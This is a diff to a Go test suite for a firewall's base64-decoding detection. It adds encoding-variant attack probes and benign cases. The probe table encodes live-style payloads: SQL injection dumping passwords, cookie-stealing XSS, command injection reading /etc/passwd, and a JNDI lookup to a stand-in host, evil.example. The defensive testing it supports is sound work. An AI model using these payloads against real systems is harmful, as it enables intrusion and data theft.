@@ -25,7 +25,18 @@ func multipartBody(fields ...string) (string, string) {
 	return b.String(), mw.FormDataContentType()
 }
 
-func b64(s string) string    { return base64.StdEncoding.EncodeToString([]byte(s)) }
+func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
+
+// wrap76 breaks s into lines of 76 characters, as MIME does.
+func wrap76(s string) string {
+	var b strings.Builder
+	for len(s) > 76 {
+		b.WriteString(s[:76] + "\\r\\n")
+		s = s[76:]
+	}
+	return b.String() + s
+}
+
 func b64url(s string) string { return base64.RawURLEncoding.EncodeToString([]byte(s)) }
 
 // attackTable is what the WAF must refuse: the CRS's families (SQL
@@ -100,6 +111,10 @@ func attackTable() (crsCatches, crsMisses []probe) {
 		{name: "base64url RCE in a form field", method: "POST", path: "/ping", contentType: form, body: "host=" + b64url("127.0.0.1; cat /etc/passwd")},
 		{name: "base64 traversal in a cookie", method: "GET", path: "/", header: http.Header{"Cookie": {"file=" + b64("../../../../etc/passwd")}}},
 		{name: "base64 SQLi in a quoted cookie", method: "GET", path: "/", header: http.Header{"Cookie": {`q="` + b64("1' UNION SELECT username, password FROM users--") + `"`}}},
+		{name: "base64 with line breaks (MIME) in a JSON field", method: "POST", path: "/api", contentType: js, body: `{"filter": "` + wrap76(b64("1' UNION SELECT username, password FROM users-- and a longer tail to wrap the line")) + `"}`},
+		{name: "base64 without padding and with a space", method: "GET", path: "/search?q=" + q(strings.TrimRight(b64("<script>alert(document.cookie)</script>x"), "=")[:20]+" "+strings.TrimRight(b64("<script>alert(document.cookie)</script>x"), "=")[20:])},
+		{name: "base64 with extra padding", method: "POST", path: "/ping", contentType: form, body: "host=" + q(b64("127.0.0.1; cat /etc/passwd")+"==")},
+		{name: "base64 of a payload and one invalid UTF-8 byte", method: "POST", path: "/api", contentType: js, body: `{"v": "` + b64("${jndi:ldap://evil.example/a}\xff") + `"}`},
 		{name: "base64 XSS in a multipart field", method: "POST", path: "/upload", contentType: mpB64Type, body: mpB64},
 		{name: "base64 in base64 (two levels)", method: "POST", path: "/api", contentType: js, body: `{"data": "` + b64(b64("1' OR '1'='1' --")) + `"}`},
 		{name: "NoSQL operator in base64", method: "POST", path: "/find", contentType: js, body: `{"filter": "` + b64(`{"$where": "sleep(5000)"}`) + `"}`},
@@ -155,6 +170,8 @@ func benignTable() []probe {
 			body: `{"name": "readme.txt", "content": "` + b64("Hello, world! This is a plain text file.\nLine two.") + `"}`},
 		{name: "base64 binary (a PNG header)", method: "POST", path: "/api/files", contentType: js,
 			body: `{"name": "x.png", "content": "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="}`},
+		{name: "words and spaces only (base64's alphabet once the spaces are gone)", method: "POST", path: "/api/notes", contentType: js,
+			body: `{"text": "Lorem ipsum dolor sit amet consectetur adipiscing elit sed do eiusmod tempor incididunt ut labore"}`},
 		{name: "hex ids and long words", method: "GET", path: "/objects?id=5f2b9c3e8a1d4e6f7a8b9c0d&name=Donaudampfschifffahrt&sha=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"},
 		{name: "a form with a percent sign", method: "POST", path: "/api/discount", contentType: form, body: "code=SAVE20&note=" + q("20% off, 100% cotton")},
 		{name: "multipart text with non-ASCII and an apostrophe", method: "POST", path: "/upload", contentType: mpType, body: mp},
@@ -222,12 +239,20 @@ func TestPlainBase64(t *testing.T) {
 		b64url("1' OR 1=1 -- ??>>"):                    "1' OR 1=1 -- ??>>",
 		"data:text/plain;base64," + b64("hello there"): "hello there",
 		b64("Zürich 東京"):                               "Zürich 東京",
-		"dGVzdA==":                                     "", // too short
-		"Donaudampfschifffahrt":                        "", // decodes to binary
-		"9f86d081884c7d659a2feaa0c55ad015":             "", // hex: binary
-		"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ": "", // PNG
-		"aGVsbG8gd29ybGQh+-_/":                         "", // mixed alphabets
-		"aGVsbG8gd29ybGQh===":                          "", // three pads
+		"dGVzdA==":                                     "",             // too short
+		"Donaudampfschifffahrt":                        "",             // decodes to binary
+		"9f86d081884c7d659a2feaa0c55ad015":             "",             // hex: binary
+		"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ": "",             // PNG
+		"aGVsbG8gd29ybGQh+-_/":                         "",             // mixed alphabets
+		"aGVsbG8gd29ybGQh===":                          "hello world!", // extra padding
+		"aGVsbG8gd29ybGQ":                              "hello world",  // missing padding
+		"aGVsbG8gd29y\r\nbGQh":                         "hello world!", // a MIME line break
+		"aGVsbG8g d29ybGQh":                            "hello world!", // a space
+		"aGVsbG8gd29ybGQhI":                            "hello world!", // a lone last character
+		b64("1' OR 1=1 --\xff"):                        "1' OR 1=1 --", // a byte that is not UTF-8
+		b64("\xff\xfe\xfd<script>"):                    "",             // 3 of 11 not text
+		"internationalization":                         "",
+		"Authorization":                                "",
 		"aGVsbG8gd29ybGQ=x":                            "", // pad inside
 		"hello world, plainly":                         "", // not base64
 		"":                                             "",
